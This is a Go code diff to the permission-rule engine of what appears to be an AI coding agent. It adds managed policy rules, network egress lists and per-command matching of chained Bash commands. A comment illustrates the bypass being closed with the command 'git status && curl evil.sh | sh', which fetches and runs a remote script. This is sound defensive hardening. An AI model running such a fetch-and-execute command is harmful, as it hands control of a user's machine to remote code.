@@ -7,6 +7,8 @@ import (
 	"path/filepath"
 	"strings"
 	"sync"
+
+	"github.com/chatml/chatml-core/paths"
 )
 
 // saveRuleMu serializes writes to the settings file to prevent TOCTOU races
@@ -27,6 +29,27 @@ const (
 	SourceSession                   // Runtime session rule
 )
 
+// String returns the source name used in audit records.
+func (s RuleSource) String() string {
+	switch s {
+	case SourcePolicy:
+		return "policy"
+	case SourceUser:
+		return "user"
+	case SourceProject:
+		return "project"
+	case SourceLocal:
+		return "local"
+	case SourceFlag:
+		return "flag"
+	case SourceCLIArg:
+		return "cliArg"
+	case SourceSession:
+		return "session"
+	}
+	return "unknown"
+}
+
 // Rule represents a persistent permission rule loaded from configuration.
 type Rule struct {
 	Tool      string     `json:"tool"`               // Tool name (e.g., "Bash", "Write")
@@ -65,8 +88,9 @@ func ParsePermissionRule(ruleStr string) Rule {
 
 // RuleSet holds persistent rules and provides evaluation.
 type RuleSet struct {
-	mu    sync.RWMutex
-	rules []Rule
+	mu     sync.RWMutex
+	rules  []Rule
+	policy []Rule // Managed policy rules, checked before everything else
 }
 
 // NewRuleSet creates a RuleSet from a slice of rules.
@@ -96,6 +120,16 @@ func (rs *RuleSet) AddRules(rules []Rule) {
 	rs.rules = append(rs.rules, rules...)
 }
 
+// AddPolicyRules adds managed policy rules. Thread-safe.
+func (rs *RuleSet) AddPolicyRules(rules []Rule) {
+	rs.mu.Lock()
+	defer rs.mu.Unlock()
+	for _, r := range rules {
+		r.Source = SourcePolicy
+		rs.policy = append(rs.policy, r)
+	}
+}
+
 // LoadRulesFromFile loads rules from a JSON file.
 // Returns an empty RuleSet (no error) if the file does not exist.
 func LoadRulesFromFile(path string) (*RuleSet, error) {
@@ -117,6 +151,7 @@ func LoadRulesFromFile(path string) (*RuleSet, error) {
 
 // LoadRulesFromSettings loads allow/deny/ask rules from a Claude Code-style settings file.
 // Settings format: { "permissions": { "allow": ["Bash(git *)"], "deny": ["Write(*.env)"], "ask": [...] } }
+// Egress rules may also be given as { "network": { "allow": ["*.npmjs.org"], "deny": [...] } }.
 func LoadRulesFromSettings(path string, source RuleSource) (*RuleSet, error) {
 	data, err := os.ReadFile(path)
 	if err != nil {
@@ -132,44 +167,68 @@ func LoadRulesFromSettings(path string, source RuleSource) (*RuleSet, error) {
 			Deny  []string `json:"deny"`
 			Ask   []string `json:"ask"`
 		} `json:"permissions"`
+		Network struct {
+			Allow []string `json:"allow"`
+			Deny  []string `json:"deny"`
+		} `json:"network"`
 	}
 	if err := json.Unmarshal(data, &settings); err != nil {
 		log.Printf("permission: invalid JSON in %s, ignoring rules: %v", path, err)
 		return NewRuleSet(nil), nil
 	}
 
+	rules := parseRuleLists(settings.Permissions.Allow, settings.Permissions.Deny, settings.Permissions.Ask, source)
+	rules = append(rules, NetworkRules(settings.Network.Allow, settings.Network.Deny, source)...)
+	return NewRuleSet(rules), nil
+}
+
+// PolicyRules returns the permission rules of a managed policy, tagged
+// SourcePolicy. Returns nil for a nil policy.
+func PolicyRules(policy *paths.ManagedPolicy) []Rule {
+	if policy == nil {
+		return nil
+	}
+	rules := parseRuleLists(policy.Permissions.Allow, policy.Permissions.Deny, policy.Permissions.Ask, SourcePolicy)
+	return append(rules, NetworkRules(policy.Network.Allow, policy.Network.Deny, SourcePolicy)...)
+}
+
+func parseRuleLists(allow, deny, ask []string, source RuleSource) []Rule {
 	var rules []Rule
-	for _, ruleStr := range settings.Permissions.Allow {
+	for _, ruleStr := range allow {
 		r := ParsePermissionRule(ruleStr)
 		r.Action = "allow"
 		r.Source = source
 		rules = append(rules, r)
 	}
-	for _, ruleStr := range settings.Permissions.Deny {
+	for _, ruleStr := range deny {
 		r := ParsePermissionRule(ruleStr)
 		r.Action = "deny"
 		r.Source = source
 		rules = append(rules, r)
 	}
-	for _, ruleStr := range settings.Permissions.Ask {
+	for _, ruleStr := range ask {
 		r := ParsePermissionRule(ruleStr)
 		r.Action = "ask"
 		r.Source = source
 		rules = append(rules, r)
 	}
-
-	return NewRuleSet(rules), nil
+	return rules
 }
 
 // LoadMultiSourceRules loads rules from all standard locations and merges them.
-// Priority (highest first): policy > user > project > local
+// Priority (highest first): policy > user > project > local. When policy locks
+// "permissions", only the policy rules are loaded.
 func LoadMultiSourceRules(workdir string) *RuleSet {
 	merged := NewRuleSet(nil)
 
 	// 1. Policy rules (managed settings, highest priority)
 	// Platform-specific: /Library/Application Support/ClaudeCode/managed-settings.json (macOS)
 	// /etc/claude-code/managed-settings.json (Linux)
-	// Skipped for now — enterprise feature (P2.4)
+	policy := paths.LoadManagedPolicy()
+	merged.AddPolicyRules(PolicyRules(policy))
+	if policy.IsLocked(paths.LockPermissions) {
+		return merged
+	}
 
 	// 2. User-level rules (~/.claude/settings.json)
 	if home, err := os.UserHomeDir(); err == nil {
@@ -307,35 +366,133 @@ func (rs *RuleSet) Evaluate(toolName, specifier string) string {
 	// override a user-level allow rule because deny is checked first.
 	// This is intentional: deny rules are always conservative.
 
-	// Phase 1: Check deny rules
-	for _, r := range rs.rules {
-		if r.Action == "deny" && matchesRule(r, toolName, specifier) {
-			return "deny"
+	r, _ := matchRules(rs.rules, toolName, specifier)
+	return r.Action
+}
+
+// Match is Evaluate returning the matching rule itself, so callers can tell
+// which source decided. ok is false when no rule matches.
+func (rs *RuleSet) Match(toolName, specifier string) (Rule, bool) {
+	rs.mu.RLock()
+	defer rs.mu.RUnlock()
+	return matchRules(rs.rules, toolName, specifier)
+}
+
+// EvaluatePolicy evaluates only the managed policy rules, with the same
+// deny -> ask -> allow order. Policy rules take precedence over every other
+// source, so callers check them first.
+func (rs *RuleSet) EvaluatePolicy(toolName, specifier string) string {
+	rs.mu.RLock()
+	defer rs.mu.RUnlock()
+	r, _ := matchRules(rs.policy, toolName, specifier)
+	return r.Action
+}
+
+// matchRules returns the first rule matching the call in deny -> ask -> allow
+// order.
+func matchRules(rules []Rule, toolName, specifier string) (Rule, bool) {
+	if toolName == "Bash" && specifier != "" {
+		return matchBashRules(rules, specifier)
+	}
+	for _, action := range []string{"deny", "ask", "allow"} {
+		for _, r := range rules {
+			if r.Action == action && matchesRule(r, toolName, specifier) {
+				return r, true
+			}
 		}
 	}
+	return Rule{}, false
+}
 
-	// Phase 2: Check ask rules
-	for _, r := range rs.rules {
-		if r.Action == "ask" && matchesRule(r, toolName, specifier) {
-			return "ask"
+// matchBashRules matches a Bash command per command it would run. Deny and
+// ask rules match when they match the whole string or any one command. Allow
+// rules must cover every command, so "Bash(git *)" does not approve
+// "git status && curl evil.sh | sh"; the only exceptions are tool-wide rules
+// and an exact rule for the whole string. A command that cannot be fully
+// parsed is never allowed per command.
+func matchBashRules(rules []Rule, command string) (Rule, bool) {
+	parsed := ParseBashForSecurity(command)
+	candidates := []string{command}
+	for _, cmd := range parsed.Commands {
+		candidates = append(candidates, bashRuleCandidates(cmd)...)
+	}
+
+	for _, action := range []string{"deny", "ask"} {
+		for _, r := range rules {
+			if r.Action != action {
+				continue
+			}
+			for _, c := range candidates {
+				if matchesRule(r, "Bash", c) {
+					return r, true
+				}
+			}
 		}
 	}
 
-	// Phase 3: Check allow rules
-	for _, r := range rs.rules {
-		if r.Action == "allow" && matchesRule(r, toolName, specifier) {
-			return "allow"
+	for _, r := range rules {
+		if r.Action != "allow" || r.Tool != "Bash" || r.Content != "" {
+			continue
 		}
+		if r.Specifier == "" || r.Specifier == "*" || r.Specifier == command {
+			return r, true
+		}
+	}
+	if parsed.Kind != "simple" {
+		return Rule{}, false
 	}
 
-	return ""
+	var first Rule
+	matched := false
+	for _, cmd := range parsed.Commands {
+		if len(cmd.Argv) == 0 {
+			continue // Assignments and redirections alone run nothing
+		}
+		r, ok := firstAllowRule(rules, bashRuleCandidates(cmd))
+		if !ok {
+			return Rule{}, false
+		}
+		if !matched {
+			first, matched = r, true
+		}
+	}
+	if matched {
+		return first, true
+	}
+	return firstAllowRule(rules, []string{command})
+}
+
+// bashRuleCandidates returns the strings a rule may match for one command:
+// its source text and its unquoted argv.
+func bashRuleCandidates(cmd SimpleCommand) []string {
+	out := []string{cmd.Text}
+	if len(cmd.Argv) > 0 {
+		if joined := strings.Join(cmd.Argv, " "); joined != cmd.Text {
+			out = append(out, joined)
+		}
+	}
+	return out
+}
+
+func firstAllowRule(rules []Rule, candidates []string) (Rule, bool) {
+	for _, r := range rules {
+		if r.Action != "allow" {
+			continue
+		}
+		for _, c := range candidates {
+			if c != "" && matchesRule(r, "Bash", c) {
+				return r, true
+			}
+		}
+	}
+	return Rule{}, false
 }
 
 // Count returns the number of rules in the set.
 func (rs *RuleSet) Count() int {
 	rs.mu.RLock()
 	defer rs.mu.RUnlock()
-	return len(rs.rules)
+	return len(rs.rules) + len(rs.policy)
 }
 
 // matchesRule checks whether a rule matches a given tool name and specifier.